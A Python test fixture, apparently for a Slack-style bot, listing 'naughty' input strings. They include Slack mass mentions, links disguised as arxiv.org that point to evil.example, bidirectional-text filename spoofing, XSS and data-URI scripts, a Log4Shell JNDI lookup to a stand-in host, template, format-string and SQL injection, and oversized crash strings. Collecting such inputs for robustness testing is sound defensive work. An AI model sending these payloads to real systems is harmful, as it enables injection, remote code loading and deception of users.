"""Strings that try to mention, link, break out or crash; written by us, for every door of the house."""

from __future__ import annotations

NAUGHTY: tuple[str, ...] = (
    "<!channel> <!here|here> <!everyone> read this",
    "<@U12345678> <@W1|someone> <#C1|general> <!subteam^S1|team>",
    "<https://evil.example|arxiv.org> [arxiv.org](https://evil.example)",
    "&lt;!channel&gt; &amp;lt;@U1&amp;gt;",
    "https://evil.example www.evil.example evil.example mailto:a@evil.example",
    "*bold* _it_ ~strike~ `code` ```block``` > quote",
    "a | b |> c <|",
    ">>>>><<<<<&&&&&",
    "line\nbreak\r\nand\u2028more\x0b\x0c\x1c\x85end",
    "NUL \x00 bell \x07 escape \x1b[31m red",
    "\u202egnp.exe \u2066isolate\u2069 \u200f\u061c\ufeff",
    "lone \ud800 surrogate \udfff",
    "🧪🧑‍🔬" * 300,
    "e\u0301" * 2000,
    "&" * 4000,
    "<" * 4000,
    "x" * 9000,
    " ",
    "",
    ":tada: @channel @here #general",
    "javascript:alert(1) data:text/html,<script>alert(1)</script>",
    "${jndi:ldap://evil.example} {{7*7}} {% raw %} %s %n",
    "' OR 1=1; -- \" \\ /",
    "Ω≈ç√∫˜µ≤≥÷ 田中さんにあげて下さい ﷽ ‏test‏",
)
